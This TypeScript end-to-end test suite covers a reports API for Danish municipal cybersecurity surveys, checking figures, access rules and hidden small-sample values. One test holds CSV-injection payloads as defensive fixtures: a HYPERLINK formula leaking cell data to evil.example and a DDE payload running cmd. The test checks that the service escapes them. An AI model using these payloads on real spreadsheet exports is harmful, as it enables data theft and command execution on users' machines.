import ExcelJS from 'exceljs';
import request from 'supertest';
import { ReportJobsService } from '@app/reports';
import { StatisticsRecomputeService } from '@app/statistics';
import { EditionsService } from '@app/surveys';
import { seedDemoStatistics } from './support/demo-statistics';
import { createTestApp, TestApp } from './support/test-app';
import { createUser, tokenFor } from './support/factories';
import { createMiniEdition, miniQuestionnaire } from './support/mini-editions';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const pdfParse = require('pdf-parse/lib/pdf-parse.js') as (
  data: Buffer,
) => Promise<{ text: string; numpages: number }>;

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};
const danish = (v: number) => v.toFixed(2).replace('.', ',');
/** Splits `;`-separated RFC 4180 text into records (quoted fields may hold `;`, quotes and line ends). */
function records(csv: string): string[][] {
  const out: string[][] = [];
  for (const line of csv
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean))
    out.push(
      [...line.matchAll(/(?:^|;)("(?:[^"]|"")*"|[^;]*)/g)].map((m) =>
        m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1],
      ),
    );
  return out;
}
async function workbook(content: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(content as unknown as ExcelJS.Buffer);
  return book;
}

describe('Reports (e2e)', () => {
  let t: TestApp;
  let officer: string;
  let kl: string;
  const ids: Record<number, string> = {};
  const base = (year: number) => `/api/v1/editions/${ids[year]}/reports`;

  beforeAll(async () => {
    t = await createTestApp();
    Object.assign(ids, await seedDemoStatistics(t));
    officer = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 151));
    kl = await tokenFor(t.http, await createUser(t.db, 'kl_analyst'));
  }, 60_000);
  afterAll(() => t.close());

  it("gives Ballerup's officer Ballerup's report as a PDF with its figures and charts", async () => {
    const res = await request(t.http)
      .get(`${base(2024)}/municipalities/151.pdf`)
      .auth(officer, { type: 'bearer' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toContain('baseline-2024-kommune-151.pdf');
    expect(res.headers.etag).toMatch(/^"[0-9a-f]{64}"$/);
    const pdf = await pdfParse(res.body as Buffer);
    const own = await request(t.http)
      .get(`/api/v1/editions/${ids[2024]}/statistics/municipalities/151`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(pdf.numpages).toBeGreaterThanOrEqual(3);
    expect(pdf.text).toContain('Ballerup');
    expect(pdf.text).toContain(danish(own.body.overall.own));
    expect(pdf.text).toContain(danish(own.body.overall.nationalMean));
    expect((res.body as Buffer).toString('latin1')).toMatch(/\/Subtype\s*\/Image/);
  });

  it('has the same figures in CSV and JSON as the statistics routes', async () => {
    const stats = await request(t.http)
      .get(`/api/v1/editions/${ids[2024]}/statistics/municipalities/151`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    const national = await request(t.http)
      .get(`/api/v1/editions/${ids[2024]}/statistics/national`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    const json = await request(t.http)
      .get(`${base(2024)}/municipalities/151.json`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(json.body.figures.overall).toEqual(stats.body.overall);
    expect(json.body.figures.areas).toEqual(stats.body.areas);

    type Question = {
      key: string;
      mean: number | null;
      median: number;
      q1: number;
      q3: number;
      n: number;
      sd: number;
    };
    const own = (key: string) => stats.body.questions.find((q: { key: string }) => q.key === key).own;
    const shown: Question = national.body.questions.find((q: Question) => q.mean !== null);
    const comma = (v: number | null) => (v === null ? '–' : String(v).replace('.', ','));

    // The CSV for a Danish Excel: BOM, semicolons, decimal commas, Danish headers.
    const csvRes = await request(t.http)
      .get(`${base(2024)}/municipalities/151.csv`)
      .auth(officer, { type: 'bearer' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    const bytes = csvRes.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = bytes.toString('utf8');
    const [header, ...rows] = records(csv);
    expect(header.slice(0, 7)).toEqual([
      'Type',
      'Område',
      'Nøgle',
      'Tekst',
      'Kommunen',
      'Landsgennemsnit',
      'Forskel',
    ]);
    const col = (name: string) => header.indexOf(name);
    const row = (key: string) => rows.find((r) => r[col('Nøgle')] === key)!;
    // The overall index, every scored area, every question and the number questions.
    expect(rows[0].slice(0, 1)).toEqual(['Samlet indeks']);
    expect(rows[0][col('Kommunen')]).toBe(comma(stats.body.overall.own));
    expect(rows[0][col('Landsgennemsnit')]).toBe(comma(national.body.overall.mean));
    expect(rows.filter((r) => r[0] === 'Spørgsmål')).toHaveLength(national.body.questions.length);
    expect(rows.filter((r) => r[0] === 'Talspørgsmål')).toHaveLength(national.body.numbers.length);
    const area = national.body.areas.find((a: { mean: number | null }) => a.mean !== null);
    expect(row(area.key)[col('Landsgennemsnit')]).toBe(comma(area.mean));
    expect(row(shown.key).slice(col('Kommunen'))).toEqual(
      expect.arrayContaining([comma(own(shown.key)), comma(shown.mean), comma(shown.n)]),
    );
    expect(csv).toMatch(/;\d,\d+;/);
    expect(csv).not.toMatch(/;\d\.\d+;/);
    // Sorted by area, in the areas' order.
    const areaOrder = national.body.areas.map((a: { title: string }) => a.title);
    const order = rows.filter((r) => r[0] === 'Spørgsmål').map((r) => areaOrder.indexOf(r[1]));
    expect(order).toEqual([...order].sort((a, b) => a - b));
    // access.mfa, whose levels 2 and 5 are hidden, has n and no mean, median or quartiles (they
    // would solve the hidden levels, docs/statistics.md): "–", not an empty cell or 0.
    const mfa: Question = national.body.questions.find((q: Question) => q.key === 'access.mfa');
    expect(mfa).toMatchObject({ mean: null, median: null, q1: null, q3: null, n: 84 });
    expect(row('access.mfa')[col('Landsgennemsnit')]).toBe('–');
    expect(row('access.mfa')[col('Median')]).toBe('–');
    expect(row('access.mfa')[col('Antal kommuner (n)')]).toBe('84');

    // The CSV for scripts: no BOM, semicolons, dot decimals, English keys, `suppressed`.
    const machine = await request(t.http)
      .get(`${base(2024)}/municipalities/151.machine.csv`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(machine.headers['content-disposition']).toContain('baseline-2024-kommune-151.machine.csv');
    expect(machine.text.startsWith('type;area_key;key;text;own_value;national_mean;delta;')).toBe(true);
    const machineRows = records(machine.text);
    const machineRow = (key: string) => machineRows.find((r) => r[2] === key)!;
    expect(machineRow(shown.key).slice(4, 6)).toEqual([String(own(shown.key)), String(shown.mean)]);
    expect(machineRow('access.mfa').slice(5, 6)).toEqual(['']);
    expect(machineRow('access.mfa').at(-1)).toBe('false');

    // The workbook: typed numbers on the sheets Oversigt, Områder, Spørgsmål.
    const xlsx = await request(t.http)
      .get(`${base(2024)}/municipalities/151.xlsx`)
      .auth(officer, { type: 'bearer' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(xlsx.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const book = await workbook(xlsx.body as Buffer);
    expect(book.worksheets.map((w) => w.name)).toEqual(
      expect.arrayContaining(['Oversigt', 'Områder', 'Spørgsmål']),
    );
    const sheet = book.getWorksheet('Spørgsmål')!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    let found = false;
    sheet.eachRow((r) => {
      if (r.getCell(headers.indexOf('Nøgle') + 1).value !== shown.key) return;
      found = true;
      const mean = r.getCell(headers.indexOf('Landsgennemsnit') + 1);
      expect(mean.type).toBe(ExcelJS.ValueType.Number);
      expect(mean.value).toBe(shown.mean);
    });
    expect(found).toBe(true);
  });

  it('puts no figure in a spreadsheet that the JSON of the same report does not hold', async () => {
    const numbers = (value: unknown, into: Set<number>): Set<number> => {
      if (typeof value === 'number') into.add(value);
      else if (value && typeof value === 'object') Object.values(value).forEach((v) => numbers(v, into));
      return into;
    };
    for (const [file, token] of [
      ['municipalities/151', officer],
      ['national', kl],
    ]) {
      const get = (format: string) =>
        request(t.http)
          .get(`${base(2024)}/${file}.${format}`)
          .auth(token, { type: 'bearer' })
          .buffer(true)
          .parse(binary)
          .expect(200)
          .then((r) => r.body as Buffer);
      const published = numbers(JSON.parse((await get('json')).toString('utf8')), new Set());
      const machine = records((await get('machine.csv')).toString('utf8'))
        .slice(1)
        .flat();
      const csvFigures = machine.filter((f) => /^-?\d+(\.\d+)?$/.test(f)).map(Number);
      expect(csvFigures.length).toBeGreaterThan(100);
      expect(csvFigures.filter((v) => !published.has(v))).toEqual([]);
      const cells: number[] = [];
      (await workbook(await get('xlsx'))).eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value === 'number') cells.push(cell.value);
          }),
        ),
      );
      expect(cells.length).toBeGreaterThan(100);
      expect(cells.filter((v) => !published.has(v))).toEqual([]);
    }
  });

  it("prints attacks and breaches in every format as mean and n, never as a median that is one municipality's answer", async () => {
    const get = (path: string, token = officer) =>
      request(t.http)
        .get(`${base(2024)}/${path}`)
        .auth(token, { type: 'bearer' })
        .expect(200);
    const orderStatistic = /^(national)?(median|q1|q3)$/i;
    const national = (await get('national.json', kl)).body.national;
    const own = (await get('municipalities/151.json')).body.figures;
    expect(national.numbers.length).toBeGreaterThan(0);
    for (const row of [...national.numbers, ...own.numbers]) {
      expect(Object.keys(row).filter((key) => orderStatistic.test(key))).toEqual([]);
    }
    const attacks = own.numbers.find((n: { key: string }) => n.key === 'incidents.attacks-per-day');
    expect(attacks.nationalMean).toBe(
      national.numbers.find((n: { key: string }) => n.key === 'incidents.attacks-per-day').mean,
    );

    const pdf = await pdfParse((await get('municipalities/151.pdf').buffer(true).parse(binary)).body);
    const html = (await get('municipalities/151.html')).text;
    const nationalHtml = (await get('national.html', kl)).text;
    const numbersSection = (text: string) => text.slice(text.indexOf('Angreb og brud'));
    expect(numbersSection(pdf.text)).toContain('Landsgennemsnit');
    for (const text of [pdf.text, html, nationalHtml].map(numbersSection)) {
      expect(text).not.toMatch(/Landsmedian|Midterste halvdel|Nedre kvartil|Øvre kvartil/);
    }
  });

  it('serves the HTML report with the chart configurations for the browser', async () => {
    const res = await request(t.http)
      .get(`${base(2024)}/municipalities/151.html`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(res.headers['content-type']).toContain('text/html');
    const configs = [...res.text.matchAll(/data-chart='([^']+)'|data-chart="([^"]+)"/g)];
    expect(configs.length).toBeGreaterThan(0);
    expect(res.text).toContain('/assets/chartjs/chart.umd.js');
  });

  it("keeps Ballerup's report from other municipalities, KL, KommuneCERT and strangers", async () => {
    const other = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 147));
    const cert = await tokenFor(t.http, await createUser(t.db, 'cert_analyst'));
    const admin = await tokenFor(t.http, await createUser(t.db, 'platform_admin'));
    for (const format of ['pdf', 'csv', 'xlsx', 'machine.csv', 'json', 'html']) {
      for (const token of [other, kl, cert, admin]) {
        const res = await request(t.http)
          .get(`${base(2024)}/municipalities/151.${format}`)
          .auth(token, { type: 'bearer' });
        expect(res.status).toBe(403);
      }
      await request(t.http)
        .get(`${base(2024)}/municipalities/151.${format}`)
        .expect(401);
    }
    const unknown = await request(t.http)
      .get(`${base(2024)}/municipalities/151.exe`)
      .auth(officer, { type: 'bearer' })
      .expect(404);
    expect(unknown.body.code).toBe('REPORT_FORMAT_UNKNOWN');
    expect(unknown.body.message).toContain('"exe"');
    expect(unknown.body.message).toContain('xlsx');
    const unknownNational = await request(t.http)
      .get(`${base(2024)}/national.xls`)
      .auth(kl, { type: 'bearer' })
      .expect(404);
    expect(unknownNational.body.message).toContain('"xls"');
    await request(t.http)
      .get(`/api/v1/editions/${ids[2025]}/reports/national.pdf`)
      .auth(kl, { type: 'bearer' })
      .expect(404);
  });

  it('gives everyone the national report: 84 participants, 3.36 against 4.13', async () => {
    const json = await request(t.http)
      .get(`${base(2024)}/national.json`)
      .auth(kl, { type: 'bearer' })
      .expect(200);
    expect(json.body.national.participation.participants).toBe(84);
    const pdfRes = await request(t.http)
      .get(`${base(2024)}/national.pdf`)
      .auth(officer, { type: 'bearer' })
      .buffer(true)
      .parse(binary)
      .expect(200);
    const pdf = await pdfParse(pdfRes.body as Buffer);
    expect(pdf.text).toContain('84');
    expect(pdf.text).toContain(danish(json.body.national.overall.mean));
    expect(pdf.text).toContain(danish(json.body.national.overall.previousMean));
    expect(Math.abs(json.body.national.overall.mean - 3.36)).toBeLessThanOrEqual(0.02);
  });

  it('counts each download once (a 304 is not a download) and shows KL the usage', async () => {
    await t.db.query('DELETE FROM report_downloads');
    const first = await request(t.http)
      .get(`${base(2024)}/municipalities/151.csv`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    await request(t.http)
      .get(`${base(2024)}/municipalities/151.csv`)
      .auth(officer, { type: 'bearer' })
      .set('If-None-Match', first.headers.etag)
      .expect(304);
    await request(t.http)
      .get(`${base(2024)}/municipalities/151.pdf`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    const [{ count }] = await t.db.query(
      'SELECT count(*)::int AS count FROM report_downloads WHERE municipality_code = 151',
    );
    expect(count).toBe(2);
    const usage = await request(t.http).get('/api/v1/usage').auth(kl, { type: 'bearer' }).expect(200);
    expect(usage.body.downloads).toEqual(
      expect.arrayContaining([expect.objectContaining({ year: 2024, municipalityCode: 151, downloads: 2 })]),
    );
    expect(usage.body.activeMunicipalitiesPerMonth.length).toBeGreaterThan(0);
    await request(t.http).get('/api/v1/usage').auth(officer, { type: 'bearer' }).expect(403);
  });

  it('renders in the background, stored with its statistics version, and never serves an outdated copy', async () => {
    const jobs = t.app.get(ReportJobsService);
    const [{ version }] = await t.db.query('SELECT version FROM statistics_state WHERE edition_id = $1', [
      ids[2024],
    ]);
    await jobs.render(ids[2024], 'municipality', 101, version);
    const stored = await t.db.query(
      `SELECT format, statistics_version FROM reports WHERE edition_id = $1 AND municipality_code = 101 ORDER BY format`,
      [ids[2024]],
    );
    expect(stored).toEqual(
      ['csv', 'html', 'json', 'machine.csv', 'pdf', 'xlsx'].map((format) => ({
        format,
        statistics_version: version,
      })),
    );

    const before = await request(t.http)
      .get(`${base(2024)}/municipalities/151.json`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    await t.app.get(StatisticsRecomputeService).run(ids[2024]);
    const after = await request(t.http)
      .get(`${base(2024)}/municipalities/151.json`)
      .auth(officer, { type: 'bearer' })
      .expect(200);
    expect(Number(after.headers['x-statistics-version'])).toBe(
      Number(before.headers['x-statistics-version']) + 1,
    );
  });

  it('neutralises question texts that a spreadsheet would run as formulas, in the CSVs and the workbook', async () => {
    const hostile: Record<string, string> = {
      'a.one': '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
      'a.two': '-2+3',
      'b.one': '@SUM(1,2)',
      'n.attacks': "+1+cmd|' /C calc'!A0",
    };
    const def = miniQuestionnaire({ key: 'b.one' });
    for (const q of def.areas.flatMap((a) => a.questions)) q.text.da = hostile[q.key];
    const answers = Object.fromEntries(
      [101, 147, 151, 153, 155, 157].map((code, i) => [
        code,
        { 'a.one': 1 + (i % 5), 'a.two': 2, 'b.one': 3, 'n.attacks': 4 },
      ]),
    );
    const id = await createMiniEdition(t.db, t.app.get(EditionsService), 2031, def, answers);
    await request(t.http).post(`/api/v1/editions/${id}/publish`).auth(kl, { type: 'bearer' }).expect(200);
    await t.app.get(StatisticsRecomputeService).run(id);
    const officer101 = await tokenFor(t.http, await createUser(t.db, 'municipality_officer', 101));
    const NUMBER = { csv: /^-?\d+(,\d+)?$/, 'machine.csv': /^-?\d+(\.\d+)?$/ };
    for (const [file, token] of [
      ['national', kl],
      ['municipalities/101', officer101],
    ]) {
      for (const format of ['csv', 'machine.csv'] as const) {
        const csv = await request(t.http)
          .get(`/api/v1/editions/${id}/reports/${file}.${format}`)
          .auth(token, { type: 'bearer' })
          .expect(200);
        const fields = records(csv.text).flat();
        expect(fields).toContain('a.one');
        // No text field starts with = + - @, a tab or a CR; only numbers such as -0,35 may start with -.
        expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f) && !NUMBER[format].test(f))).toEqual([]);
        for (const text of Object.values(hostile)) expect(fields).toContain(`'${text}`);
        expect(csv.text).toContain(`;"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Klik"")";`);
      }
      const xlsx = await request(t.http)
        .get(`/api/v1/editions/${id}/reports/${file}.xlsx`)
        .auth(token, { type: 'bearer' })
        .buffer(true)
        .parse(binary)
        .expect(200);
      const texts: ExcelJS.Cell[] = [];
      (await workbook(xlsx.body as Buffer)).eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            if (Object.values(hostile).includes(cell.value as string)) texts.push(cell);
          }),
        ),
      );
      // Each hostile text is there as it was written: a text cell in text format, never a formula.
      expect(new Set(texts.map((c) => c.value))).toEqual(new Set(Object.values(hostile)));
      for (const cell of texts) {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        expect(cell.numFmt).toBe('@');
      }
    }
  });

  it('never reveals a hidden figure: every format of a small edition marks it, none prints it', async () => {
    // Six municipalities answer; b.one only two of them, so its national figures are hidden.
    const def = miniQuestionnaire({ key: 'b.one' });
    const answers = Object.fromEntries(
      [101, 147, 151, 153, 155, 157].map((code, i) => [
        code,
        { 'a.one': 1 + (i % 5), 'a.two': 2, 'n.attacks': 4, ...(i < 2 ? { 'b.one': 5 } : {}) },
      ]),
    );
    const id = await createMiniEdition(t.db, t.app.get(EditionsService), 2032, def, answers);
    await request(t.http).post(`/api/v1/editions/${id}/publish`).auth(kl, { type: 'bearer' }).expect(200);
    await t.app.get(StatisticsRecomputeService).run(id);
    const json = await request(t.http)
      .get(`/api/v1/editions/${id}/reports/national.json`)
      .auth(kl, { type: 'bearer' })
      .expect(200);
    const hidden = json.body.national.questions.find((q: { key: string }) => q.key === 'b.one');
    expect(hidden).toMatchObject({ suppressed: true, mean: null, n: null });
    const get = (format: string) =>
      request(t.http)
        .get(`/api/v1/editions/${id}/reports/national.${format}`)
        .auth(kl, { type: 'bearer' })
        .buffer(true)
        .parse(binary)
        .expect(200)
        .then((r) => r.body as Buffer);
    const danishRow = records((await get('csv')).toString('utf8')).find((r) => r[2] === 'b.one')!;
    // The last column, the incident rate of the national report's quartile rows, has no figure here.
    expect(danishRow.slice(4)).toEqual([...Array(6).fill('Skjult (færre end 5 kommuner)'), '', '–']);
    const machineRow = records((await get('machine.csv')).toString('utf8')).find((r) => r[2] === 'b.one')!;
    expect(machineRow.slice(4)).toEqual(['', '', '', '', '', '', '', '', 'true']);
    const sheet = (await workbook(await get('xlsx'))).getWorksheet('Spørgsmål')!;
    const values: unknown[] = [];
    sheet.eachRow((row) => {
      if (row.getCell(2).value === 'b.one') values.push(...(row.values as unknown[]).slice(4));
    });
    expect(values.length).toBeGreaterThan(0);
    expect(values.every((v) => v === 'Skjult (færre end 5 kommuner)')).toBe(true);
  });
});
